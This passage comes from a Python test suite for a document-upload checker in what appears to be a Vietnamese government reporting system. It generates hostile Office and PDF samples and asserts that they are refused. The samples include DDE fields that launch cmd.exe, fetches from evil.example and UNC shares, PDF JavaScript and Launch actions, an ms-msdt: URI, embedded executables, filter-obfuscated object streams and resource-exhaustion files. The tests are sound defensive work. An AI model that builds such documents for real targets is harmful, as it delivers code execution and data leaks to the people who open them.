                    '<connections xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
                    '<connection id="1" name="q" type="4" refreshOnLoad="1"><webPr url="http://evil.example/leak"/>'
                    "</connection></connections>"
                ),
            },
            CONNECTION_TYPES,
        ),
        FETCH_REFUSED,
    ),
    # a package inside: with macros, with a field that fetches, inside another package
    ("nhung-docm.docx", with_package(docx_bytes(macros=True), "word/embeddings/a.docx"), "là tệp Office có macro"),
    (
        "nhung-truong.docx",
        with_package(word(field_runs(' INCLUDEPICTURE "http://evil.example/a.png" '))),
        FETCH_REFUSED,
    ),
    ("nhung-long.docx", with_package(with_package(word())), TOO_COMPLEX),
    # the 25th probe: a keyword finished by a nested field; a document part in UTF-16 without a byte-order mark
    (
        "giua-tu.docx",
        word(field_runs(" IN", (' QUOTE "CLUDEPICTURE" ',), ' "http://evil.example/x.png" \\d ')),
        FETCH_REFUSED,
    ),
    (
        "utf16.docx",
        word_utf16(field_runs(" DDEAUTO x ")),
        DDE_REFUSED,
    ),
    # 110 000 empty parts: refused before the archive is checked (2 s of the server's own time before)
    (
        "nhieu-phan.docx",
        package({"word/document.xml": f"<w:document {W}/>"} | {f"x/{n}": "" for n in range(6_000)}),
        "bị hỏng hoặc không đọc được (tệp Office giải nén quá lớn hoặc có quá nhiều phần)",
    ),
    # 200 MB of empty elements in 200 kB: refused after READ_LIMIT of them, the worker freed within a second or so
    (
        "phan-tu.docx",
        package({"word/document.xml": f"<w:document {W}/>", "word/media/el.xml": "<r>" + "<a/>" * 2_000_001 + "</r>"}),
        TOO_COMPLEX,
    ),
]


def assert_refused(client, cast, report, folder, name, content, message):
    """Uploaded with the report's text: refused next to the field, the text kept, nothing stored."""
    client.force_login(cast["canbo.ldtbxh"])
    response = upload(client, report, name, content)
    assert response.status_code == 422
    html = response.content.decode()
    assert f"Tệp “{name}” {message}" in html
    assert "Có minh chứng kèm theo." in html
    assert not Evidence.objects.exists() and not list(folder.rglob("*.*"))


@pytest.mark.parametrize(("name", "content", "message"), OUTSIDE)
def test_it_refuses_what_opens_something_outside_and_keeps_the_text(
    client, cast, report, tmp_path, name, content, message
):
    assert_refused(client, cast, report, tmp_path, name, content, message)


@pytest.mark.parametrize(("name", "content", "message"), PACKAGES_AND_BUDGET)
def test_it_refuses_what_packages_hide_and_what_would_take_too_long_to_read(
    client, cast, report, tmp_path, name, content, message
):
    assert_refused(client, cast, report, tmp_path, name, content, message)


def deflated(content: bytes) -> bytes:
    """The package `content` with its parts compressed, as Office writes them."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as out:
        for member in source.infolist():
            out.writestr(member.filename, source.read(member))
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "make"),
    [
        # the 24th probe: 60 MB of names in an object stream of a 61 kB PDF (30 s of a worker, then a 500)…
        (
            "ten.pdf",
            lambda: catalog_pdf("/Filter /FlateDecode", lambda c: zlib.compress(c + b"/a " * 20_000_000), script=False),
        ),
        # …and a hyperlink field of millions of arguments in a .docx (30 s and 1,6 GB)
        ("lien-ket-dai.docx", lambda: deflated(word(field_runs(" HYPERLINK " + ' "http://a"' * 5_000_000)))),
    ],
)
def test_a_file_that_would_hold_a_worker_is_refused_within_the_reading_limit(
    client, cast, report, tmp_path, settings, name, make
):
    settings.EVIDENCE_CHECK_CPU_SECONDS = 1  # the reading's own process stops there, whatever the file does
    assert_refused(client, cast, report, tmp_path, name, make(), TOO_COMPLEX)


def test_a_chart_workbook_inside_a_document_is_read_and_accepted(client, cast, report):
    """Word keeps a chart's figures as a workbook inside the document: a plain one passes."""
    client.force_login(cast["canbo.ldtbxh"])
    chart = with_package(workbook("SUM(A2:A9)"))
    assert upload(client, report, "bieu-do.docx", chart).status_code == 302
    assert Evidence.objects.get(entry__report=report).original_name == "bieu-do.docx"


def biff(*records: tuple[int, bytes]) -> bytes:
    """An Excel 97–2003 workbook stream: a BOF record, `records` (type, data), an EOF record."""
    head = struct.pack("<HH", 0x0809, 16) + b"\x00\x06\x05\x00" + b"\x00" * 12
    return head + b"".join(struct.pack("<HH", kind, len(data)) + data for kind, data in records) + b"\x0a\x00\x00\x00"


def sheet(name: str, kind: int) -> tuple[int, bytes]:
    """A BoundSheet8 record: the sheet `name` of type `kind` (0 a worksheet, 1 an Excel 4.0 macro sheet)."""
    return 0x0085, b"\x00" * 4 + bytes([0, kind, len(name), 0]) + name.encode()


def pieced_word(*pieces: tuple[str, bool], flags: int = 0x0200) -> bytes:
    """A Word 97–2003 file whose text is made of `pieces` (text, whether stored as 8-bit text), each in the stream
    in the reverse of the reading order, as a fast save leaves them: only the piece table puts the text together."""
    document = bytearray(1024)
    struct.pack_into("<HH", document, 0, 0xA5EC, 0xC1)
    struct.pack_into("<H", document, 0x0A, flags)
    offsets = []
    for text, eight_bit in reversed(pieces):
        offsets.insert(0, (len(document) * 2) | 0x40000000 if eight_bit else len(document))
        document += text.encode("cp1252" if eight_bit else "utf-16-le") + b"\x00" * 16
    positions = [0]
    for text, _ in pieces:
        positions.append(positions[-1] + len(text))
    table = struct.pack(f"<{len(positions)}I", *positions)
    table += b"".join(struct.pack("<HIH", 0, offset, 0) for offset in offsets)
    clx = b"\x02" + struct.pack("<I", len(table)) + table
    struct.pack_into("<II", document, 0x01A2, 0, len(clx))
    return ole_file({("WordDocument",): bytes(document), ("1Table",): clx})


def overlapping_word(pieces: int) -> bytes:
    """A Word 97–2003 file of one line whose piece table reads that line `pieces` times over."""
    document = bytearray(1024) + b"x" * 1000
    struct.pack_into("<HH", document, 0, 0xA5EC, 0xC1)
    struct.pack_into("<H", document, 0x0A, 0x0200)
    table = struct.pack(f"<{pieces + 1}I", *range(0, 1000 * (pieces + 1), 1000))
    table += struct.pack("<HIH", 0, 2048 | 0x40000000, 0) * pieces
    clx = b"\x02" + struct.pack("<I", len(table)) + table
    struct.pack_into("<II", document, 0x01A2, 0, len(clx))
    return ole_file({("WordDocument",): bytes(document), ("1Table",): clx})


def supbook(sheets: int, path: str) -> tuple[int, bytes]:
    """A SupBook record: a link to the workbook at `path` with `sheets` sheets (none: a DDE or OLE link)."""
    return 0x01AE, struct.pack("<HH", sheets, len(path)) + b"\x00" + path.encode()


def old_word(text: str, encoding="latin-1", objects=None) -> bytes:
    """A Word 97–2003 file whose text holds `text` (fields written with their marks 0x13, 0x14, 0x15), and the
    streams `objects` besides."""
    document = b"\xec\xa5" + b"\x00" * 62 + text.encode(encoding)
    return ole_file({("WordDocument",): document, ("1Table",): b"\x00" * 64} | (objects or {}))


OLD_FORMATS = [
    # an Excel 4.0 macro sheet, a VBA module sheet, a password that hides what the workbook holds (probe 23)
    ("xlm.xls", ole_file({("Workbook",): biff(sheet("Sheet1", 0), sheet("Macro1", 1))}), "là tệp Office có macro"),
    ("mo-dun.xls", ole_file({("Workbook",): biff(sheet("Module1", 6))}), "là tệp Office có macro"),
    ("mat-khau.xls", ole_file({("Workbook",): biff((0x002F, b"\x01\x00" * 3))}), "là tệp Office có mật khẩu"),
    ("mat-khau.doc", pieced_word(("Văn bản", False), flags=0x0300), "là tệp Office có mật khẩu"),
    # a field split between pieces of 8-bit and UTF-16 text stored out of order: whole only through the piece table
    # a Word file with a stream named Workbook besides its document (27th probe: only the workbook's checks ran)
    (
        "hai-luong.doc",
        old_word('\x13 DDEAUTO cmd.exe "/k calc" \x14\x15', objects={("Workbook",): biff()}),
        DDE_REFUSED,
    ),
    ("chong.doc", overlapping_word(10), TOO_COMPLEX),  # pieces that read the same text again: no real document
    ("manh.doc", pieced_word(("Xem \x13 DD", True), ('EAUTO c:\\cmd.exe "/k calc" \x14\x15', False)), DDE_REFUSED),
    # links Excel offers to update when it opens: a workbook on another machine, a DDE link (no sheets)
    ("lien-ket.xls", ole_file({("Workbook",): biff(supbook(1, "\\\\evil.example\\s\\a.xls"))}), FETCH_REFUSED),
    ("dde.xls", ole_file({("Workbook",): biff(supbook(0, "cmd\x03/c calc"))}), DDE_REFUSED),
    ("lo-lien-ket.xls", (SAVED / "libreoffice-external-link.xls").read_bytes(), FETCH_REFUSED),
    # the 28th probe: WEBSERVICE, a HYPERLINK formula and a cell's link to a share or a file (accepted in an .xls,
    # refused in an .xlsx)
    ("lay-ve.xls", (SAVED / "libreoffice-fetching.xls").read_bytes(), FETCH_REFUSED),
    ("chia-se.xls", (SAVED / "libreoffice-share-link.xls").read_bytes(), FETCH_REFUSED),
    # objects embedded in the file, opened by a double-click on their icon: a packaged program in a document, an
    # Equation Editor object, a document inside a workbook
    (
        "goi.doc",
        old_word("Xem tệp đính kèm", "utf-16-le", objects={("ObjectPool", "_1", "\x01Ole10Native"): b"MZ"}),
        EMBEDDED,
    ),
    ("cong-thuc.doc", old_word("x", objects={("ObjectPool", "_2", "Equation Native"): b"\x1c\x00"}), EMBEDDED),
    ("nhung.xls", ole_file({("Workbook",): biff(), ("MBD0001", "WordDocument"): b"\xec\xa5"}), EMBEDDED),
    # fields of a Word 97–2003 text that run or fetch, in 8-bit or UTF-16 text, spelt by a nested field
    ("dde.doc", old_word('\x13 DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc" \x14\x15'), DDE_REFUSED),
    ("anh.doc", old_word('\x13 INCLUDEPICTURE "http://evil.example/a.png" \x14\x15', "utf-16-le"), FETCH_REFUSED),
    ("long.doc", old_word("\x13\x13 QUOTE 68 68 69 \x14DDE\x15 cmd.exe \x14\x15"), FETCH_REFUSED),
    ("chia-se.doc", old_word('\x13 HYPERLINK "\\\\evil.example\\s" \x14x\x15', "utf-16-le"), FETCH_REFUSED),
]


@pytest.mark.parametrize(("name", "content", "message"), OLD_FORMATS)
def test_it_refuses_old_office_files_that_run_or_fetch(client, cast, report, tmp_path, name, content, message):
    assert_refused(client, cast, report, tmp_path, name, content, message)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("bang.xls", ole_file({("Workbook",): biff(sheet("Thu chi", 0), sheet("Biểu đồ", 2))})),
        # its own sheets and add-in functions, as Excel writes every workbook with formulas across sheets
        (
            "cong-thuc.xls",
            ole_file(
                {("Workbook",): biff((0x01AE, struct.pack("<HH", 2, 0x0401)), (0x01AE, struct.pack("<HH", 1, 0x3A01)))}
            ),
        ),
        (
            "truong.doc",
            old_word("Trang \x13 PAGE \x14" + "1\x15 " + '\x13 HYPERLINK "https://binhson.gov.vn" \x14x\x15'),
        ),
        ("truong-16.doc", old_word("Báo cáo \x13 DATE \\@ dd/MM/yyyy \x1406/12/2026\x15", "utf-16-le")),
        ("manh-ghep.doc", pieced_word(("Báo cáo năm ", False), ("2026 \x13 PAGE \x141\x15", True))),
    ],
)
def test_old_office_files_with_plain_sheets_and_fields_are_accepted(client, cast, report, name, content):
    client.force_login(cast["canbo.ldtbxh"])
    assert upload(client, report, name, content).status_code == 302
    assert Evidence.objects.get(entry__report=report).original_name == name


def with_hyperlinks(content):
    """The .docx `content` with a web and a mail hyperlink in its text."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as source, zipfile.ZipFile(buffer, "w") as archive:
        for member in source.infolist():
            data = source.read(member)
            if member.filename == "word/_rels/document.xml.rels":
                data = data.replace(
                    b"</Relationships>",
                    f'<Relationship Id="rId90" Type="{REL}hyperlink" Target="https://binhson.gov.vn/ke-hoach"'
                    f'{EXTERNAL}/><Relationship Id="rId91" Type="{REL}hyperlink" '
                    f'Target="mailto:vanphong@binhson.gov.vn"{EXTERNAL}/></Relationships>'.encode(),
                )
            elif member.filename == "word/document.xml":
                data = data.replace(
                    b"<w:body>",
                    b'<w:body><w:p><w:hyperlink r:id="rId90"><w:r><w:t>K\xe1\xba\xbf ho\xe1\xba\xa1ch</w:t></w:r>'
                    b'</w:hyperlink><w:hyperlink r:id="rId91"><w:r><w:t>Th\xc6\xb0</w:t></w:r></w:hyperlink></w:p>',
                )
            archive.writestr(member, data)
    with zipfile.ZipFile(buffer) as archive:  # both links, in the relationships and in the text
        assert archive.read("word/_rels/document.xml.rels").count(b"binhson.gov.vn") == 2
        assert archive.read("word/document.xml").count(b"<w:hyperlink ") == 2
    return buffer.getvalue()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("lien-ket.docx", with_hyperlinks(python_docx_bytes())),
        # fields that are no DDE, and a "|" inside a string or a quoted sheet name
        ("truong.docx", word(field_runs(" PAGE ") + '<w:p><w:fldSimple w:instr=" DATE \\@ dd/MM/yyyy"/></w:p>')),
        ("chuoi.xlsx", workbook("CONCATENATE(\"a|b\",'Thu|Chi'!A1)")),
        # a web hyperlink field or formula, and a sheet named like a function
        ("truong-lien-ket.docx", word(field_runs(' HYPERLINK "https://binhson.gov.vn/ke-hoach" '))),
        # a table of contents (links to the document's own headings, page numbers in their results), a tooltip,
        # fields nested after their keyword
        (
            "muc-luc.docx",
            word(
                field_runs(' HYPERLINK \\l "_Toc123" ', result=(" PAGEREF _Toc123 \\h ",))
                + field_runs(' HYPERLINK "mailto:vanphong@binhson.gov.vn" \\o "Gửi thư" ')
            ),
        ),
        (
            "long-nhau.docx",
            word(field_runs(" IF ", (" PAGE ",), ' = 1 "Một" "Khác" ')),
        ),
        ("lien-ket-web.xlsx", workbook('HYPERLINK("https://binhson.gov.vn","Trang")+SUM(IMAGE!A1:A3)')),
    ],
)
def test_web_and_mail_hyperlinks_and_plain_fields_are_accepted(client, cast, report, name, content):
    client.force_login(cast["canbo.ldtbxh"])
    assert upload(client, report, name, content).status_code == 302
    assert Evidence.objects.get(entry__report=report).original_name == name


def pdf_with(objects: str, root: str = "") -> bytes:
    """A small PDF whose catalog (object 1) has `root` in it, and `objects` after it (numbered from 2)."""
    return (
        f"%PDF-1.7\n1 0 obj<< /Type /Catalog /Pages 9 0 R {root} >>endobj\n{objects}\n"
        "9 0 obj<< /Type /Pages /Kids [99 0 R] /Count 1 >>endobj\n"
        "99 0 obj<< /Type /Page /Parent 9 0 R /MediaBox [0 0 200 200] >>endobj\ntrailer<< /Root 1 0 R >>\n%%EOF\n"
    ).encode()


def qpdf_pdf(
    open_action: dict | None = None, annotation: dict | None = None, threads: bool = False, associated: bytes = b""
) -> bytes:
    """A one-page PDF written by qpdf (pikepdf): with `open_action` run when it opens, `annotation` on its page, or an
    article thread of its own page (names as "/Name", strings as Python's)."""
    import pikepdf

    def pdf_object(value):
        if isinstance(value, dict):
            return pikepdf.Dictionary({key: pdf_object(item) for key, item in value.items()})
        if isinstance(value, str):
            return pikepdf.Name(value) if value.startswith("/") else pikepdf.String(value)
        return value

    with pikepdf.new() as pdf:
        pdf.add_blank_page(page_size=(200, 200))
        page = pdf.pages[0]
        if open_action:
            pdf.Root.OpenAction = pdf_object(open_action)
        if annotation:
            page.Annots = pdf.make_indirect(pikepdf.Array([pdf.make_indirect(pdf_object(annotation))]))
        if threads:
            bead = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Bead, P=page.obj, R=[0, 0, 100, 100]))
            thread = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Thread, F=bead))
            bead.T, bead.N, bead.V = thread, bead, bead
            pdf.Root.Threads = pikepdf.Array([thread])
        if associated:
            stream = pdf.make_stream(associated)
            spec = pdf.make_indirect(pikepdf.Dictionary(Type=pikepdf.Name.Filespec, F=pikepdf.String("a.exe")))
            spec.EF = pikepdf.Dictionary(F=stream)
            pdf.Root.AF = pikepdf.Array([spec])
        out = io.BytesIO()
        pdf.save(out)
    return out.getvalue()


def pyhanko_pdf(action: dict | None = None, compress=True, password=None, link=False) -> bytes:
    """A PDF written by pyHanko (cross-reference stream), with `action` as its /OpenAction kept in an object
    stream (compressed or not), a web link on a page, or encrypted with a password to open it."""
    from pyhanko.pdf_utils import generic
    from pyhanko.pdf_utils.writer import PdfFileWriter

    writer = PdfFileWriter()
    if action is not None:
        packed = generic.DictionaryObject({generic.NameObject(k): v for k, v in action.items()})
        writer.root["/OpenAction"] = writer.add_object(packed, obj_stream=writer.prepare_object_stream(compress))
    if link:
        writer.root["/URI"] = generic.DictionaryObject({"/Base": generic.TextStringObject("https://binhson.gov.vn/")})
    if password:
        writer.encrypt(password, password)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def js_action():
    from pyhanko.pdf_utils import generic

    return {"/S": generic.NameObject("/JavaScript"), "/JS": generic.TextStringObject("app.alert(1)")}


PDF_REFUSED = "là PDF có nội dung tự chạy hoặc mở chương trình, tệp khác"
UNREADABLE = "là PDF có mật khẩu, bị mã hoá hoặc quá phức tạp"


def packed_pdf(filters: str, body: bytes, parameters: str = "") -> bytes:
    """A PDF whose object 2 is packed in an object stream (object 3) written with `filters`."""
    head = f"3 0 obj<< /Type /ObjStm /N 1 /First 4 /Filter {filters} {parameters} /Length {len(body)} >>stream\n"
    return pdf_with("", "/OpenAction 2 0 R").replace(b"9 0 obj", head.encode() + body + b"\nendstream endobj\n9 0 obj")


def catalog_pdf(
    head: str, pack, objects: dict[int, str] | None = None, script=True, keyword=b"stream\n", before=b"", root=True
) -> bytes:
    """A PDF as the 23rd probe wrote it: its catalog (object 1), with an /OpenAction (object 4) and a /Names
    JavaScript tree (object 8), packed in an object stream (object 5) whose dictionary holds `head` and whose
    content is `pack(content)`, with `objects` written out (numbered 6 and on), and found through a cross-reference
    stream, so that a reader opens it and runs the script. Without `script`, a plain catalog packed the same way. The
    object stream's body follows `keyword` (the 24th probe wrote "stream \n"), and `before` follows the header.
    Without `root`, the cross-reference stream names no catalog (qpdf cannot open the file; poppler takes the catalog
    from a trailer written before it: the 25th probe)."""
    packed = {
        1: "<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R /Names << /JavaScript 8 0 R >> >>",
        8: "<< /Names [(a) 4 0 R] >>",
        4: "<< /S /JavaScript /JS (app.alert\\(1\\);) >>",
    }
    if not script:
        packed = {1: "<< /Type /Catalog /Pages 2 0 R >>"}
    offsets, text = [], ""
    for number, value in packed.items():
        offsets.append(f"{number} {len(text)}")
        text += value + "\n"
    index = " ".join(offsets) + "\n"
    body = pack((index + text).encode())
    written = {
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        **{number: value.encode() for number, value in (objects or {}).items()},
        5: f"<< /Type /ObjStm /N {len(packed)} /First {len(index)} {head} /Length {len(body)} >>\n".encode()
        + keyword
        + body
        + b"\nendstream",
    }
    out, at = bytearray(b"%PDF-1.5\n%\xe2\xe3\xcf\xd3\n" + before), {}
    for number, value in written.items():
        at[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, value)
    size = max([*written, *packed, 7]) + 1
    rows = []
    for number in range(size):
        if number in packed:
            rows.append((2, 5, list(packed).index(number)))
        elif number == 7:
            rows.append((1, len(out), 0))
        else:
            rows.append((1, at[number], 0) if number in at else (0, 0, 65535))
    # written as Word and most writers write it: compressed, each row's bytes as differences from the row above's
    table = b"".join(kind.to_bytes(1) + where.to_bytes(4) + index.to_bytes(2) for kind, where, index in rows)
    table = zlib.compress(png_rows(table, 7, 2))
    start = len(out)
    out += b"7 0 obj\n<< /Type /XRef /Size %d %s/W [1 4 2] /Filter /FlateDecode" % (size, b"/Root 1 0 R " * root)
    out += b" /DecodeParms << /Predictor 12 /Columns 7 >> /Length %d >>\nstream\n" % len(table)
    out += table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % start
    return bytes(out)


def run_length(data: bytes) -> bytes:
    """`data` RunLength-encoded in literal runs of two bytes, so that no name is spelt in what is written."""
    return b"".join(b"\x01" + data[i : i + 2].ljust(2, b" ") for i in range(0, len(data), 2)) + b"\x80"


def png_rows(data: bytes, width: int, kind: int, pixel: int = 1) -> bytes:
    """`data` in rows of `width` bytes, each written with the PNG predictor `kind` (0 none, 1 sub, 2 up, 4 Paeth)."""
    out, above = b"", bytes(width)
    for start in range(0, len(data), width):
        line = data[start : start + width].ljust(width, b"\0")
        row = bytearray([kind])
        for i, byte in enumerate(line):
            left, corner = (line[i - pixel], above[i - pixel]) if i >= pixel else (0, 0)
            guess = left + above[i] - corner
            paeth = min((abs(guess - left), left), (abs(guess - above[i]), above[i]), (abs(guess - corner), corner))
            row.append((byte - {0: 0, 1: left, 2: above[i], 4: paeth[1]}[kind]) & 255)
        out, above = out + bytes(row), line
    return out


def tiff_rows(data: bytes, width: int, colors: int) -> bytes:
    """`data` in rows of `width` bytes, each byte written as its difference with the one `colors` before (TIFF 2)."""
    rows = [data[start : start + width] for start in range(0, len(data), width)]
    return b"".join(
        bytes((row[i] - (row[i - colors] if i >= colors else 0)) & 255 for i in range(len(row))) for row in rows
    )


ACTIVE_PDFS = [
    ("mo-ra.pdf", pdf_with("2 0 obj<< /S /JavaScript /JS (app.alert(1)) >>endobj", "/OpenAction 2 0 R"), PDF_REFUSED),
    # a name written with #xx escapes is the same name
    (
        "an-ten.pdf",
        pdf_with("2 0 obj<< /S /J#61vaScript /J#53 (app.alert(1)) >>endobj", "/OpenAction 2 0 R"),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "chay.pdf",
        pdf_with(
            "2 0 obj<< /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>endobj", "/OpenAction 2 0 R"
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "dinh-kem.pdf",
        pdf_with(
            "2 0 obj<< /Type /EmbeddedFile /Length 0 >>stream\n\nendstream endobj",
            "/Names << /EmbeddedFiles << /Names [(a.exe) << /EF << /F 2 0 R >> >>] >> >>",
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    # hidden in an object stream, compressed or not, as PDF writers keep most objects now
    ("nen.pdf", pyhanko_pdf(js_action()), PDF_REFUSED),
    ("khong-nen.pdf", pyhanko_pdf(js_action(), compress=False), PDF_REFUSED),
    # an object stream packed with a filter that leaves no compressed bytes to unpack
    (
        "hex.pdf",
        packed_pdf("/ASCIIHexDecode", b"2 0 << /S /JavaScript /JS (app.alert(1)) >>".hex().encode() + b">"),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "a85.pdf",
        packed_pdf("/ASCII85Decode", base64.a85encode(b"2 0 << /S /Launch /F (cmd.exe) >>") + b"~>"),
        PDF_REFUSED,
    ),  # fmt: skip
    # a "stream" in a comment or in a string starts no stream: what follows it is read (fifth probe)
    (
        "chu-thich.pdf",
        pdf_with(
            "% stream\n4 0 obj << /S /JavaScript /JS (app.alert('x')) >> endobj\n"
            "5 0 obj << /Length 0 >> stream\n\nendstream endobj",
            "/OpenAction 4 0 R",
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "chuoi.pdf",
        pdf_with(
            "6 0 obj << /Title (upstream\n) >> endobj\n4 0 obj << /S /Launch /F (calc.exe) >> endobj"
            "\n5 0 obj << /Length 0 >> stream\n\nendstream endobj",
            "/OpenAction 4 0 R",
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    # an object stream whose dictionary holds "( obj)", or is longer than a few kB
    (
        "obj.pdf",
        packed_pdf("/FlateDecode", zlib.compress(b"2 0 << /S /JavaScript /JS (x) >>"), "/Note ( obj)"),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "dai.pdf",
        packed_pdf("/FlateDecode", zlib.compress(b"2 0 << /S /JavaScript /JS (x) >>"), f"/Pad ({'x' * 6000})"),
        PDF_REFUSED,
    ),  # fmt: skip
    # a reader finds objects by the cross-reference table wherever they are written (sixth probe): on comment lines,
    # inside another stream's bytes, in an object stream whose filter is written indirectly or after a comment
    (
        "dong-chu-thich.pdf",
        pdf_with("% 4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj", "/OpenAction 4 0 R"),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "trong-luong.pdf",
        pdf_with(
            "7 0 obj << /Length 52 >> stream\n4 0 obj << /S /JavaScript /JS (app.alert(1)) >> endobj\nendstream endobj",
            "/OpenAction 4 0 R",
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    ("loc-gian-tiep.pdf", packed_pdf("9 0 R", zlib.compress(b"2 0 << /S /JavaScript /JS (x) >>")), PDF_REFUSED),
    (
        "loc-sau-chu-thich.pdf",
        packed_pdf("%c\n/FlateDecode", zlib.compress(b"2 0 << /S /Launch /F (calc) >>")),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "hex-gian-tiep.pdf",
        packed_pdf("9 0 R", b"2 0 << /S /JavaScript /JS (x) >>".hex().encode() + b">"),
        PDF_REFUSED,
    ),  # fmt: skip
    ("mat-khau.pdf", pyhanko_pdf(password="bimat"), UNREADABLE),
    # packed in a way not read here: refused, never waved through
    ("lzw.pdf", packed_pdf("/LZWDecode", b"\x80\x0b\x60\x50"), UNREADABLE),
    (
        "du-doan.pdf",
        packed_pdf("/FlateDecode", zlib.compress(b"2 0 << >>"), "/DecodeParms << /Predictor 12 >>"),
        UNREADABLE,
    ),  # fmt: skip
    # an object stream unpacked however a reader unpacks it (23rd probe): a predictor whose parameters are in another
    # object, a filter written in another object (Flate twice, Flate then hex), any number of filters, TIFF predictor
    (
        "du-doan-gian-tiep.pdf",
        catalog_pdf(
            "/Filter /FlateDecode /DecodeParms 6 0 R",
            lambda content: zlib.compress(png_rows(content, 1, 0)),
            {6: "<< /Predictor 12 /Columns 1 >>"},
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "nen-hai-lan.pdf",
        catalog_pdf(
            "/Filter 6 0 R", lambda content: zlib.compress(zlib.compress(content)), {6: "[/FlateDecode /FlateDecode]"}
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "nen-roi-hex.pdf",
        catalog_pdf(
            "/Filter 6 0 R",
            lambda content: zlib.compress(content.hex().encode() + b">"),
            {6: "[/FlateDecode /ASCIIHexDecode]"},
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "du-doan-paeth.pdf",
        catalog_pdf(
            "/F [/A85 /Fl] /DP [null 6 0 R]",
            lambda content: base64.a85encode(zlib.compress(png_rows(content, 15, 4, pixel=3))) + b"~>",
            {6: "<< /Predictor 15 /Colors 3 /Columns 9 0 R >>", 9: "5"},
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    (
        "du-doan-tiff.pdf",
        catalog_pdf(
            "/Filter [/FlateDecode /FlateDecode /ASCIIHexDecode]"
            " /DecodeParms [null << /Predictor 2 /Colors 2 /Columns 8 >>]",
            lambda content: zlib.compress(zlib.compress(tiff_rows(content.hex().encode() + b">", 16, 2))),
        ),
        PDF_REFUSED,
    ),  # fmt: skip
    # parameters that cannot be resolved, or that a reader may take from another copy: refused, never waved through
    (
        "tham-so-thieu.pdf",
        catalog_pdf("/Filter /FlateDecode /DecodeParms 6 0 R", lambda content: zlib.compress(png_rows(content, 3, 1))),
        UNREADABLE,
    ),  # fmt: skip
    (
        "tham-so-hai-ban.pdf",
        catalog_pdf(
            "/Filter /FlateDecode /DecodeParms 6 0 R",
            lambda content: zlib.compress(png_rows(content, 3, 1)),
            {6: "<< /Predictor 11 /Columns 3 >>\nendobj\n6 0 obj\n<< /Predictor 11 /Columns 4 >>"},
        ),
        PDF_REFUSED,  # qpdf takes the copy its cross-reference table names, as a reader does, and finds the script
    ),  # fmt: skip
    # the 24th probe: a space, a tab or a comment between "stream" and its line's end, which a reader skips; a stray
    # "(" after the header and an object stream RunLength-packed under the filter's short name; a GoToR action
    ("cach.pdf", catalog_pdf("/Filter /FlateDecode", zlib.compress, keyword=b"stream \n"), PDF_REFUSED),
    ("tab.pdf", catalog_pdf("/Filter /FlateDecode", zlib.compress, keyword=b"stream\t\r\n"), PDF_REFUSED),
    ("ghi-chu.pdf", catalog_pdf("/Filter /FlateDecode", zlib.compress, keyword=b"stream%x\n"), PDF_REFUSED),
    ("ngoac-rl.pdf", catalog_pdf("/Filter /RL", run_length, before=b"(\n"), PDF_REFUSED),
    # the 25th probe: no catalog in the cross-reference stream (qpdf cannot open the file; poppler takes it from a
    # trailer written first), a stray "(", 300 spaces after "stream": refused as unreadable
    (
        "khong-goc.pdf",
        catalog_pdf(
            "/Filter [/ASCIIHexDecode /FlateDecode]",
            lambda content: binascii.hexlify(zlib.compress(content)),
            keyword=b"stream" + b" " * 300 + b"\n",
            before=b"trailer << /Root 1 0 R >>\n(\n",
            root=False,
        ),
        UNREADABLE,
    ),
    (
        "mo-tep-khac.pdf",
        pdf_with("", "/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\s\\\\x.pdf) /D [0 /Fit] >>"),
        PDF_REFUSED,
    ),
    # the 26th probe: an article of a file on a share, a movie from one, an address that is a file or a share, or a
    # program's scheme
    ("bai.pdf", qpdf_pdf({"/S": "/Thread", "/F": "\\\\evil\\s\\x.pdf", "/D": 0}), PDF_REFUSED),
    ("phim.pdf", qpdf_pdf(annotation={"/Subtype": "/Movie", "/Movie": {"/F": "\\\\evil\\m.avi"}}), PDF_REFUSED),
    ("tep.pdf", qpdf_pdf({"/S": "/URI", "/URI": "file://evil/s/x.hta"}), PDF_REFUSED),
    ("lenh.pdf", qpdf_pdf({"/S": "/URI", "/URI": "ms-msdt:/id PCWDiagnostic"}), PDF_REFUSED),
    # the 28th probe: a program as a PDF 2.0 associated file, its stream not typed, no list of embedded files
    ("kem-theo.pdf", qpdf_pdf(associated=b"MZ\x90\x00"), PDF_REFUSED),
]


@pytest.mark.parametrize(("name", "content", "message"), ACTIVE_PDFS)
def test_it_refuses_a_pdf_that_runs_or_opens_something_and_keeps_the_text(
    client, cast, report, tmp_path, name, content, message
):
    assert_refused(client, cast, report, tmp_path, name, content, message)


@pytest.mark.parametrize(
    ("name", "content"),
    [
        (
            "weasyprint.pdf",
